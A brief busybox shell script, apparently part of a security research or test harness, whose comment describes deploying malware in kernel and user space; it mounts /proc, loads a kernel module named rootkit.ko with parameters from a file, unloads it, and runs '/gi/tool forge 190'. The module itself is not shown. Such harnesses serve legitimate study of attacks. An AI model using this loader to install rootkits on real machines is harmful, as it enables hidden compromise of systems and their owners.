#!/gi/busybox sh
# shellcheck shell=dash
# Malware in the kernel and in user space: /gi/attack, for init scripts and workloads.
busybox=/gi/busybox
[ -e /proc/self ] || { $busybox mkdir -p /proc && $busybox mount -t proc proc /proc; }
# shellcheck disable=SC2046 # a list of parameters
$busybox insmod /gi/rootkit.ko $($busybox cat /gi/rootkit.parameters) && $busybox rmmod rootkit
/gi/tool forge 190
